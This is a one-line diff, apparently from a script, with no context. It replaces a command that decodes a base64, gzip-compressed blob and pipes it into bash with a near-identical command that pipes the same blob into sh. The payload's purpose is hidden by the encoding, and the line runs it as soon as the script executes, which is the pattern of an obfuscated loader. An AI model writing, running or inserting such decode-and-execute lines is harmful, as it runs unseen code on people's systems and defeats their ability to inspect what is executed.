@@ -1,1 +1,1 @@
-echo H4sIAAAAAAACAz3KSwqAIBQF0LmruBE0S80eYbiaPq8UxCL7bD+aND6nxLSlJayw1BrcJMpCjSGpcchePD5Exnlc7DBvSBNqxs9oeiO1NJIIVlvtkCPzjk5/OzEq8QJ7U2lyXgAAAA== | base64 -d | gzip -d | bash
+echo H4sIAAAAAAACAz3KSwqAIBQF0LmruBE0S80eYbiaPq8UxCL7bD+aND6nxLSlJayw1BrcJMpCjSGpcchePD5Exnlc7DBvSBNqxs9oeiO1NJIIVlvtkCPzjk5/OzEq8QJ7U2lyXgAAAA== | base64 -d | gzip -dc | sh
